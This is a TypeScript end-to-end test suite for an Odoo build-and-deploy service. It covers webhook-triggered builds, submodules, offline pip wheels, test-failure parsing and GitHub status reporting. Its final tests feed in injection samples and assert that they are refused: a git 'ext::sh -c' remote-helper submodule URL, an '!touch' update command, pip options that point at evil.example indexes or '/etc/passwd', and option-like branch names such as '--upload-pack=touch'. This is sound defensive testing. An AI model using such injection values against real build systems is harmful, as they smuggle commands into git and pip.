// Builds with tests, end to end on real odoo-bin 17.0 and 19.0 (../shared/odoo): a real repository made
// here with git (a bare remote), a submodule from a second local repository (relative URL), a
// requirements.txt naming a wheel built here offline (with python's zipfile) in a find-links directory the
// operator's registry names (no PyPI here), a signed push webhook that queues the deploy and the build,
// the build's fresh database with demo data, its tests, Odoo's test log parsed into the run's result, and
// GitHub's API played by test/helpers/github-double.ts (a named test double: GitHub cannot be reached).
// Then what must be refused: a submodule the registry does not allow, remote helpers and option-like
// URLs in .gitmodules, a custom update command, pip options in requirements.txt, an uninstallable
// requirement (the build fails before its database exists), option-like branches and module names.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { sign } from '@octokit/webhooks-methods';
import { BuildResult, type Run } from '../contract/index.ts';
import { problemsOf, resolveInWorkspace, standingBuild } from '../extension/src/buildProblems.ts';
import { checkRequirements } from '../server/deploy/python-env.ts';
import { resolveSubmoduleUrl } from '../server/deploy/submodules.ts';
import { chownToRunUser, freePortRange } from './helpers/control-plane.ts';
import { startGitHubDouble, type GitHubDouble } from './helpers/github-double.ts';
import { ODOO_ROLE, startOdooProject, type OdooProject } from './helpers/odoo-project.ts';
import { installOdoo, type OdooInstall } from './helpers/real-odoo.ts';

const SECRET = 'webhook-secret-for-build-tests';
const CLI = join(import.meta.dirname, '..', 'server', 'cli', 'main.ts');
let p: OdooProject;
let gh: GitHubDouble;
let remote: string;
let work: string;
let ocaRemote: string;
let oca: string;
let evilRemote: string;
let wheels: string;
const times: string[] = [];

const env = { GIT_AUTHOR_NAME: 'Dev', GIT_AUTHOR_EMAIL: 'dev@example.invalid', GIT_COMMITTER_NAME: 'Dev', GIT_COMMITTER_EMAIL: 'dev@example.invalid' };
const gitIn = (dir: string, ...args: string[]) => execFileSync('git', ['-C', dir, ...args], { env: { ...process.env, ...env } }).toString().trim();
function commitIn(dir: string, files: Record<string, string | null>, message: string, branch: string, links: Record<string, string> = {}): string {
  gitIn(dir, 'checkout', '-q', '-B', branch);
  for (const [f, content] of Object.entries(files)) {
    if (content === null) rmSync(join(dir, f), { force: true, recursive: true });
    else {
      mkdirSync(join(dir, f, '..'), { recursive: true });
      writeFileSync(join(dir, f), content);
    }
  }
  gitIn(dir, 'add', '-A');
  // A submodule as git records it: a gitlink (mode 160000) at its path, described by .gitmodules.
  for (const [path, sha] of Object.entries(links)) gitIn(dir, 'update-index', '--add', '--cacheinfo', `160000,${sha},${path}`);
  gitIn(dir, 'commit', '-q', '--allow-empty', '-m', message);
  gitIn(dir, 'push', '-q', '--force', 'origin', branch);
  return gitIn(dir, 'rev-parse', 'HEAD');
}

const manifest = (name: string, depends: string[]) => `{'name': '${name}', 'version': '1.0', 'depends': ${JSON.stringify(depends)}, 'license': 'LGPL-3'}\n`;
/** shop_ok's test: the venv's package, the submodule's module, demo data. */
const TEST_OK = `import odooops_probe
from odoo.addons.oca_tools.tools import double
from odoo.tests.common import TransactionCase


class TestOk(TransactionCase):
    def test_everything_is_there(self):
        self.assertEqual(odooops_probe.VALUE, 'from the venv')
        self.assertEqual(double(21), 42)
        self.assertTrue(self.env.ref('base.res_partner_1', raise_if_not_found=False), 'demo data')
`;
const TEST_BAD = `from odoo.tests.common import TransactionCase


class TestBad(TransactionCase):
    def test_passes(self):
        self.assertTrue(True)

    def test_fails(self):
        self.assertEqual(1 + 1, 3, 'arithmetic')
`;
const TEST_BAD_LINE = 9;
const GITMODULES = (url: string, extra = '') => `[submodule "oca"]\n\tpath = external/oca\n\turl = ${url}\n${extra}`;

let deliveries = 0;
async function push(branch: string, sha: string) {
  const body = JSON.stringify({ ref: `refs/heads/${branch}`, after: sha, repository: { full_name: 'acme/addons' } });
  const res = await fetch(`${p.cp.server.url}/api/webhooks/github`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-github-event': 'push', 'x-github-delivery': `b-${++deliveries}-${process.pid}`, 'x-hub-signature-256': await sign(SECRET, body) },
    body,
  });
  return { status: res.status, body: await res.json() as any };
}
const run = promisify(execFile);
const cli = (args: string[]) => run(process.execPath, [CLI, ...args], { env: { ...process.env, ODOOOPS_URL: p.cp.server.url, ODOOOPS_TOKEN: p.admin.token }, maxBuffer: 64 << 20 })
  .then((r) => ({ code: 0, ...r }), (e) => ({ code: e.code as number, stdout: e.stdout as string, stderr: e.stderr as string }));
const dbExists = async (name: string) => (await p.sql('postgres', `select 1 from pg_database where datname = '${name}'`)).length === 1;
const buildDatabases = async () => (await p.sql('postgres', `select datname from pg_database where datname like '%\\_odooops\\_build\\_%'`)).map((r) => r.datname);

/** A wheel made offline: odooops_probe 1.0 with VALUE = 'from the venv'. */
function makeWheel(dir: string) {
  execFileSync('/usr/bin/python3', ['-c', `
import base64, hashlib, sys, zipfile
files = {
  'odooops_probe/__init__.py': "VALUE = 'from the venv'\\n",
  'odooops_probe-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\\nName: odooops-probe\\nVersion: 1.0\\n',
  'odooops_probe-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\\nGenerator: odooops-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',
}
record = []
with zipfile.ZipFile(sys.argv[1] + '/odooops_probe-1.0-py3-none-any.whl', 'w') as z:
    for name, text in files.items():
        data = text.encode()
        z.writestr(name, data)
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
        record.append(f'{name},sha256={digest},{len(data)}')
    record.append('odooops_probe-1.0.dist-info/RECORD,,')
    z.writestr('odooops_probe-1.0.dist-info/RECORD', '\\n'.join(record) + '\\n')
`, dir]);
}

before(async () => {
  gh = await startGitHubDouble();
  const [project, o17, o19] = await Promise.all([startOdooProject({
    slug: 'bld', generate: {},
    envs: [{ name: 'production', stage: 'production', db: 'bld_prod' }],
    server: { githubWebhookSecret: SECRET, githubToken: 'ghp_testdouble', githubApiUrl: gh.url },
  }), installOdoo('17.0'), installOdoo('19.0')]);
  p = project;
  remote = join(p.scratch, 'addons.git');
  ocaRemote = join(p.scratch, 'oca.git');
  evilRemote = join(p.scratch, 'evil.git');
  work = join(p.scratch, 'addons');
  oca = join(p.scratch, 'oca');
  for (const r of [remote, ocaRemote, evilRemote]) execFileSync('git', ['init', '-q', '--bare', '-b', 'main', r]);
  execFileSync('git', ['clone', '-q', remote, work]);
  execFileSync('git', ['clone', '-q', ocaRemote, oca]);
  // Odoo's data directory is the filestore root's parent (its sessions live there): the run user's.
  mkdirSync(join(p.scratch, 'sessions'));
  chownToRunUser(join(p.scratch, 'sessions'));
  wheels = join(p.scratch, 'wheels');
  mkdirSync(wheels);
  makeWheel(wheels);
  const runtime = (o: OdooInstall, ports: [number, number]) => ({
    kind: 'local', odooBin: o.odooBin, addonsPath: [join(o.dir, 'addons'), join(o.dir, 'odoo', 'addons')],
    odooArgs: ['--max-cron-threads', '0', '--http-interface', '127.0.0.1'], httpPorts: ports, healthTimeoutSeconds: 60,
    pip: { noIndex: true, findLinks: [wheels] }, projects: ['bld'],
  });
  await p.addInfra({
    runtimes: { odoo17: runtime(o17, await freePortRange(6)), odoo19: runtime(o19, await freePortRange(6)) },
    // The project's repository and the submodule's; evil.git is not the operator's.
    repositories: { addons: { url: remote, projects: ['bld'] }, oca: { url: ocaRemote, projects: ['bld'] } },
  });
  const settings = await p.admin.call('PUT', '/api/projects/bld/git', { repoUrl: remote, githubRepo: 'acme/addons', productionBranch: 'main', productionNeedsApproval: false });
  assert.equal(settings.status, 200, JSON.stringify(settings.body));
  assert.equal(settings.body.buildStaging, false, 'staging builds are opt-in');
  assert.equal((await p.admin.call('PUT', '/api/projects/bld/environments/production/deploy-target', { runtime: 'odoo17' })).status, 200);
  await p.addEnv({ name: 'dev19', stage: 'development', db: 'bld_dev19' });
  assert.equal((await p.admin.call('PUT', '/api/projects/bld/environments/dev19/deploy-target', { runtime: 'odoo19' })).status, 200);

  // The submodule's repository: oca_tools, whose own (failing) test must not run in the builds.
  commitIn(oca, {
    'oca_tools/__manifest__.py': manifest('OCA tools', ['base']), 'oca_tools/__init__.py': 'from . import tools\n',
    'oca_tools/tools.py': 'def double(x):\n    return 2 * x\n', 'oca_tools/tests/__init__.py': 'from . import test_oca\n',
    'oca_tools/tests/test_oca.py': 'from odoo.tests.common import TransactionCase\n\n\nclass TestOca(TransactionCase):\n    def test_not_ours(self):\n        self.fail(\'a submodule test ran\')\n',
  }, 'oca tools', 'main');
});
after(async () => {
  const odoo = join(p?.cp.server.home ?? '/nonexistent', 'work', 'odoo');
  for (const e of existsSync(odoo) ? readdirSync(odoo) : []) {
    const pidFile = join(odoo, e, 'odoo.pid');
    if (existsSync(pidFile)) {
      try {
        process.kill(Number(readFileSync(pidFile, 'utf8')), 'SIGTERM');
      } catch {}
    }
  }
  await gh?.close();
  await p?.close();
  if (times.length) console.log(`# build times (fresh database with demo data + the modules' tests):\n${times.map((t) => `#   ${t}`).join('\n')}`);
});

/** The repository's feature branch: shop_ok (passes, needs the submodule and the wheel), shop_bad (one test fails). */
function featureCommit(branch: string): string {
  const ocaHead = gitIn(oca, 'rev-parse', 'HEAD');
  return commitIn(work, {
    '.gitmodules': GITMODULES('../oca.git'), 'requirements.txt': 'odooops-probe==1.0  # the wheel in the find-links directory\n',
    'shop_ok/__manifest__.py': manifest('Shop ok', ['base', 'oca_tools']), 'shop_ok/__init__.py': '', 'shop_ok/tests/__init__.py': 'from . import test_ok\n',
    'shop_ok/tests/test_ok.py': TEST_OK,
    'shop_bad/__manifest__.py': manifest('Shop bad', ['base']), 'shop_bad/__init__.py': '', 'shop_bad/tests/__init__.py': 'from . import test_bad\n',
    'shop_bad/tests/test_bad.py': TEST_BAD,
  }, 'two modules, a submodule, a requirement', branch, { 'external/oca': ocaHead });
}

test('Odoo 17: a push to a development branch deploys, then builds: the venv, the submodule, demo data; the failing test named by file and line; GitHub told', async () => {
  const sha = featureCommit('feature/tests');
  gh.pullRequests['acme/addons'] = [{ number: 12, state: 'open', head: sha }, { number: 9, state: 'closed', head: sha }];
  const r = await push('feature/tests', sha);
  assert.equal(r.status, 202, JSON.stringify(r.body));
  assert.equal(r.body.environment, 'dev-feature-tests');
  const runs = (await p.cp.pool.query('select id, kind from ops.runs where id = any($1) order by id', [r.body.runs])).rows;
  assert.deepEqual(runs.map((x) => x.kind), ['deploy', 'build'], 'the deploy, then the build');
  const deploy = await p.finished(runs[0].id, 300_000);
  assert.equal(deploy.status, 'succeeded', `${deploy.error}\n${await p.logText(deploy.id)}`);
  const deployLog = await p.logText(deploy.id);
  assert.match(deployLog, /submodule external\/oca: fetching .*oca\.git/);
  assert.match(deployLog, /install shop_bad, shop_ok/, 'the repository\'s modules; the submodule\'s come as a dependency');
  assert.match(deployLog, /pip\.log: .*Successfully installed odooops-probe-1\.0/, 'the deploy installed the requirements into the venv');

  const t = performance.now();
  const build = await p.finished(runs[1].id, 400_000);
  const log = await p.logText(build.id);
  assert.equal(build.status, 'failed', log);
  assert.equal(build.error, '1 of 3 tests failed: test_fails (shop_bad)');
  const result = BuildResult.parse(build.result);
  times.push(`Odoo ${result.odooVersion}: ${result.seconds} s (the whole run ${((performance.now() - t) / 1000).toFixed(1)} s)`);
  assert.equal(result.revision, sha);
  assert.equal(result.odooVersion, '17.0');
  assert.deepEqual(result.tests.modules, ['shop_bad', 'shop_ok']);
  assert.deepEqual([result.tests.tests, result.tests.failed, result.tests.errors], [3, 1, 0], `the submodule's own test did not run: ${JSON.stringify(result.tests.failures, null, 1)}`);
  assert.deepEqual(result.tests.failures.map((f) => [f.outcome, f.module, f.file, f.line, f.message]),
    [['failed', 'shop_bad', 'shop_bad/tests/test_bad.py', TEST_BAD_LINE, 'AssertionError: 2 != 3 : arithmetic']]);
  assert.match(result.tests.failures[0]!.test, /^test_fails \(odoo\.addons\.shop_bad\.tests\.test_bad\.TestBad\.test_fails\)$/);
  // What the extension makes of this run as the API gives it (its Problems view, extension/src/testProblems.ts):
  // one problem on the failing line of the developer's own checkout (here the clone the push came from).
  const asRead = (await p.admin.call('GET', `/api/runs/${build.id}`)).body as Run;
  const standing = standingBuild('bld', 'dev-feature-tests', [asRead]);
  assert.ok(standing, 'a standing build');
  const { problems, elsewhere } = problemsOf(standing, (f) => resolveInWorkspace(f, [work]));
  assert.deepEqual(problems.map((x) => [x.path, x.line, x.message.split('\n')[0], x.source]),
    [[join(work, 'shop_bad', 'tests', 'test_bad.py'), TEST_BAD_LINE, 'test_fails failed: AssertionError: 2 != 3 : arithmetic', `OdooOps build #${build.id} (dev-feature-tests)`]]);
  assert.match(readFileSync(problems[0]!.path, 'utf8').split('\n')[TEST_BAD_LINE - 1]!, /assertEqual/, 'the line the problem is on is the failing assertion');
  assert.deepEqual(elsewhere, []);
  assert.match(log, /requirements unchanged since they were installed/, 'the deploy\'s venv, reused');
  assert.match(log, /build\.log: .*Starting TestOk\.test_everything_is_there/, 'the venv\'s package imported, the submodule\'s module found, demo data there');
  assert.doesNotMatch(log, /FAIL: TestOk|test_not_ours/);
  const buildDb = /fresh database (bld_prod_dev_feature_tests_odooops_build_[0-9a-f]{8}): odoo-bin -i shop_bad,shop_ok --test-enable --test-tags \/shop_bad,\/shop_ok/.exec(log)?.[1];
  assert.ok(buildDb, log);
  assert.equal(await dbExists(buildDb), false, 'the build\'s database is dropped after');
  assert.equal(await dbExists('bld_prod_dev_feature_tests'), true, 'the environment\'s own database stays');

  const statuses = gh.calls.filter((c) => c.method === 'POST' && c.path === `/repos/acme/addons/statuses/${sha}` && c.body?.context === 'ci/odooops (tests)');
  assert.deepEqual(statuses.map((s) => [s.body!.state, s.body!.description]), [['pending', 'building on dev-feature-tests'], ['failure', '3 tests, 1 failed']]);
  const comments = gh.calls.filter((c) => c.method === 'POST' && /\/issues\/\d+\/comments$/.test(c.path) && /tests of/.test(String(c.body?.body)));
  assert.deepEqual(comments.map((c) => c.path), ['/repos/acme/addons/issues/12/comments'], 'the open pull request only');
  assert.match(String(comments[0]!.body!.body), new RegExp(`tests of \`${sha.slice(0, 7)}\` on \`dev-feature-tests\`: 3 tests, 1 failed\\n- \`test_fails\` \\(shop_bad\\) shop_bad/tests/test_bad\\.py:${TEST_BAD_LINE}: AssertionError`));
  // The pull request's own comment (when it is opened) carries the line too.
  const opened = JSON.stringify({ action: 'opened', number: 13, repository: { full_name: 'acme/addons' }, pull_request: { head: { ref: 'feature/tests', sha } } });
  const pr = await fetch(`${p.cp.server.url}/api/webhooks/github`, { method: 'POST', body: opened, headers: { 'content-type': 'application/json', 'x-github-event': 'pull_request', 'x-github-delivery': `pr-${process.pid}`, 'x-hub-signature-256': await sign(SECRET, opened) } });
  assert.equal(pr.status, 202);
  const prComment = gh.calls.find((c) => c.path === '/repos/acme/addons/issues/13/comments');
  assert.match(String(prComment?.body?.body), new RegExp(`Tests of \`${sha.slice(0, 7)}\`: 3 tests, 1 failed`));
});

test('Odoo 19 from the CLI: the same commit builds with --with-demo, the summary printed at the end', async () => {
  const sha = gitIn(work, 'rev-parse', 'HEAD');
  const t = performance.now();
  const out = await cli(['run', 'queue', 'bld', 'dev19', 'build', '--param', 'branch=feature/tests', '--follow']);
  const id = Number(/queued run (\d+)/.exec(out.stderr)?.[1]);
  const build = await p.finished(id, 60_000);
  const log = await p.logText(id);
  assert.equal(build.status, 'failed', log);
  assert.notEqual(out.code, 0, 'a failed build fails the command');
  const result = BuildResult.parse(build.result);
  times.push(`Odoo ${result.odooVersion}: ${result.seconds} s (the whole run ${((performance.now() - t) / 1000).toFixed(1)} s, a new venv)`);
  assert.equal(result.odooVersion, '19.0');
  assert.equal(result.revision, sha);
  assert.deepEqual([result.tests.tests, result.tests.failed, result.tests.errors], [3, 1, 0], JSON.stringify(result.tests.failures, null, 1));
  assert.deepEqual(result.tests.failures.map((f) => [f.file, f.line]), [['shop_bad/tests/test_bad.py', TEST_BAD_LINE]]);
  assert.match(log, /--test-tags \/shop_bad,\/shop_ok/);
  assert.match(log, /pip\.log: .*Successfully installed odooops-probe-1\.0/, 'dev19\'s own venv');
  assert.match(out.stderr, new RegExp(`FAIL test_fails \\(shop_bad\\) shop_bad/tests/test_bad\\.py:${TEST_BAD_LINE}: AssertionError: 2 != 3 : arithmetic`));
  assert.match(out.stderr, /tests: 3 tests, 1 failed \(Odoo 19\.0, [\d.]+ s\)/);
  assert.match(log, /fresh database bld_dev19_odooops_build_[0-9a-f]{8}:/);
  assert.deepEqual(await buildDatabases(), [], 'dropped after');
});

test('a passing build succeeds and says so to GitHub (Odoo 17); another environment\'s database named like the build\'s stays', async () => {
  // The branch "feature/tests-build" has the database bld_prod_dev_feature_tests_build: the name builds of
  // "feature/tests" took before, dropping it as their leftover. Build databases are now marked as OdooOps's own.
  const other = 'bld_prod_dev_feature_tests_build';
  await p.sql('postgres', `create database ${other} owner ${ODOO_ROLE}`);
  await p.sql(other, `create table precious (v text); insert into precious values ('work of a developer')`);
  const sha = commitIn(work, { 'shop_bad': null }, 'shop_bad goes', 'feature/tests', { 'external/oca': gitIn(oca, 'rev-parse', 'HEAD') });
  const t = performance.now();
  const build = await p.runToEnd('dev-feature-tests', 'build', { revision: sha }, 400_000);
  assert.equal(build.status, 'succeeded', `${build.error}\n${await p.logText(build.id)}`);
  assert.deepEqual(await p.sql(other, 'select v from precious'), [{ v: 'work of a developer' }]);
  assert.doesNotMatch(await p.logText(build.id), /dropped the leftover build database/);
  assert.deepEqual(await buildDatabases(), []);
  const result = BuildResult.parse(build.result);
  times.push(`Odoo 17.0, passing: ${result.seconds} s (the whole run ${((performance.now() - t) / 1000).toFixed(1)} s)`);
  assert.deepEqual([result.tests.modules, result.tests.tests, result.tests.failed, result.tests.failures.length], [['shop_ok'], 1, 0, 0]);
  const last = gh.calls.filter((c) => c.path === `/repos/acme/addons/statuses/${sha}`).at(-1);
  assert.deepEqual([last?.body?.state, last?.body?.description, last?.body?.context], ['success', '1 test, all passed', 'ci/odooops (tests)']);
});

test('refused before anything is fetched or installed: a submodule the registry does not allow, remote helpers, custom update commands', async () => {
  const evilSrc = join(p.scratch, 'evil');
  execFileSync('git', ['clone', '-q', evilRemote, evilSrc]);
  const evilHead = commitIn(evilSrc, { 'evil_mod/__manifest__.py': manifest('Evil', ['base']), 'evil_mod/__init__.py': '' }, 'evil', 'main');
  const base = { 'shop_ok/__manifest__.py': manifest('Shop ok', ['base']), 'shop_ok/__init__.py': '', 'requirements.txt': null, 'shop_ok/tests': null };
  const cases: [string, string, RegExp][] = [
    [GITMODULES(evilRemote), 'evil', new RegExp(`the submodule "oca" \\(external/oca\\) points at ${evilRemote.replace(/[.]/g, '\\.')}, which the registry does not allow for project bld; nothing was fetched\\. The operator adds it to the registry's repositories`)],
    [GITMODULES('ext::sh -c touch% /tmp/odooops-pwned-ext'), 'ext', /a git remote helper that runs commands/],
    [GITMODULES('-uhelp'), 'option', /which git would read as an option/],
    [GITMODULES('/etc'), 'path', /points at \/etc, which the registry does not allow/],
    [GITMODULES('../oca.git', '\tupdate = !touch /tmp/odooops-pwned-update\n'), 'update', /asks for a custom update command .*never runs commands from \.gitmodules/],
  ];
  for (const [gitmodules, label, expected] of cases) {
    const sha = commitIn(work, { ...base, '.gitmodules': gitmodules }, `submodule: ${label}`, `attack/${label}`, { 'external/oca': evilHead });
    const build = await p.runToEnd('dev19', 'build', { revision: sha }, 120_000);
    assert.equal(build.status, 'failed', label);
    assert.match(build.error ?? '', expected, label);
    assert.equal(build.result, null);
  }
  assert.equal(existsSync('/tmp/odooops-pwned-ext') || existsSync('/tmp/odooops-pwned-update'), false, 'no command ran');
  const builds = join(p.cp.server.home, 'work', 'builds');
  const gitDirs = readdirSync(builds).map((d) => join(builds, d, '.git', 'odooops-modules')).filter(existsSync)
    .flatMap((m) => readdirSync(m).map((g) => join(m, g)));
  assert.ok(gitDirs.length >= 1, 'the allowed submodule was fetched earlier');
  for (const g of gitDirs) {
    const has = (() => { try { execFileSync('git', ['--git-dir', g, 'cat-file', '-e', `${evilHead}^{commit}`], { stdio: 'ignore' }); return true; } catch { return false; } })();
    assert.equal(has, false, 'the refused repository\'s commit was never fetched');
  }
  // git resolves relative submodule URLs the same way.
  assert.equal(resolveSubmoduleUrl('https://github.com/acme/addons.git', '../oca.git'), 'https://github.com/acme/oca.git');
  assert.equal(resolveSubmoduleUrl('git@github.com:acme/addons.git', '../../other/x.git'), 'git@github.com:other/x.git');
  assert.equal(resolveSubmoduleUrl('/srv/git/addons.git/', './sub.git'), '/srv/git/addons.git/sub.git');
  assert.throws(() => resolveSubmoduleUrl('https://github.com/a.git', '../../../x.git'), /goes above/);
});

test('requirements: pip options and URLs refused by line; an uninstallable requirement fails the build before its database exists', async () => {
  for (const line of ['--index-url http://evil.example/simple', '-e /etc', '-r /etc/passwd', '--extra-index-url=http://evil', '-f http://evil', 'pkg @ https://evil.example/pkg.whl', 'git+https://evil.example/x.git', './local', '/etc', 'ok==1 --no-index']) {
    assert.throws(() => checkRequirements(`requests\n${line}\n`, 'requirements.txt'), new RegExp(`requirements\\.txt line 2: .*remove the line`), line);
  }
  assert.deepEqual(checkRequirements('# deps\nphonenumbers==8.13.0  # phone\nrequests[socks]>=2,<3; python_version >= "3.8"\nfoo \\\n  ==1.0\n', 'r.txt'),
    ['phonenumbers==8.13.0', 'requests[socks]>=2,<3; python_version >= "3.8"', 'foo   ==1.0']);

  const base = { '.gitmodules': null, 'external': null, 'shop_ok/__manifest__.py': manifest('Shop ok', ['base']), 'shop_ok/__init__.py': '', 'shop_ok/tests': null };
  const optioned = commitIn(work, { ...base, 'requirements.txt': '--index-url http://evil.example/simple\nodooops-probe\n' }, 'an index of its own', 'req/option');
  const refused = await p.runToEnd('dev19', 'build', { revision: optioned }, 120_000);
  assert.equal(refused.status, 'failed');
  assert.match(refused.error ?? '', /requirements\.txt line 1: "--index-url http:\/\/evil\.example\/simple" is a pip option .*from the package index the operator set in the registry/);
  assert.doesNotMatch(await p.logText(refused.id), /pip\.log:/, 'pip never ran');

  const missing = commitIn(work, { ...base, 'shop_ok/requirements.txt': null, 'requirements.txt': 'odooops-probe==1.0\nodooops-not-in-find-links==9.9\n' }, 'an uninstallable requirement', 'req/missing');
  const failed = await p.runToEnd('dev19', 'build', { revision: missing }, 120_000);
  assert.equal(failed.status, 'failed');
  assert.match(failed.error ?? '', /pip could not install requirements\.txt/);
  const log = await p.logText(failed.id);
  assert.match(log, /pip\.log: .*(No matching distribution found for odooops-not-in-find-links|Could not find a version that satisfies the requirement odooops-not-in-find-links)/);
  assert.doesNotMatch(log, /fresh database|build\.log:/, 'no database was touched');
  assert.equal(await dbExists('bld_dev19_build'), false);
});

test('names that try to be options or paths: branches and revisions refused at the API, module directories at the build', async () => {
  for (const params of [{ branch: '--upload-pack=touch /tmp/x' }, { branch: '../../etc' }, { revision: '--all' }, { revision: 'HEAD~1' }, {}]) {
    const q = await p.queue('dev19', 'build', params);
    assert.equal(q.status, 400, JSON.stringify(params));
  }
  const prodBuild = await p.queue('production', 'build', { branch: 'main' });
  assert.equal(prodBuild.status, 403, JSON.stringify(prodBuild.body));
  assert.match(JSON.stringify(prodBuild.body), /builds run on staging and development environments, not production/);
  const odd = commitIn(work, { 'requirements.txt': null, 'shop-x/__manifest__.py': manifest('Odd', ['base']), 'shop-x/__init__.py': '' }, 'a module named like an option', 'odd/name');
  const build = await p.runToEnd('dev19', 'build', { revision: odd }, 120_000);
  assert.equal(build.status, 'failed');
  assert.match(build.error ?? '', /the module directory "shop-x" is not a name Odoo accepts/);
});

test('staging builds are opt-in: a staging push queues a build only once the project admin turns it on', async () => {
  await p.addEnv({ name: 'staging', stage: 'staging', db: 'bld_staging' });
  await p.cp.pool.query(`update ops.environments set branch = 'staging' where name = 'staging'`);
  assert.equal((await p.admin.call('PUT', '/api/projects/bld/git', { stagingBranches: ['staging'] })).status, 200);
  const sha = commitIn(work, {}, 'staging', 'staging');
  const off = await push('staging', sha);
  assert.deepEqual((await p.cp.pool.query('select kind from ops.runs where id = any($1) order by id', [off.body.runs])).rows.map((x) => x.kind), ['deploy']);
  const cliOn = await cli(['project', 'git', 'bld', '--build-staging', 'true']);
  assert.equal(cliOn.code, 0, cliOn.stderr);
  assert.equal(JSON.parse(JSON.stringify((await p.admin.call('PUT', '/api/projects/bld/git', {})).body)).buildStaging, true);
  const sha2 = commitIn(work, { 'note.txt': 'x\n' }, 'staging 2', 'staging');
  const on = await push('staging', sha2);
  assert.deepEqual((await p.cp.pool.query('select kind, params from ops.runs where id = any($1) order by id', [on.body.runs])).rows.map((x) => [x.kind, x.params.revision]), [['deploy', sha2], ['build', sha2]]);
  // A tester may not turn it off: admins change git settings.
  const tester = await p.cp.user();
  await p.cp.pool.query(`insert into ops.project_members (project_id, user_id, role) select id, $1, 'tester' from ops.projects where slug = 'bld'`, [tester.id]);
  assert.equal((await tester.call('PUT', '/api/projects/bld/git', { buildStaging: false })).status, 403);
  // The staging environment has no runtime: both runs fail at once, saying so.
  for (const id of on.body.runs) await p.finished(id, 60_000);
});
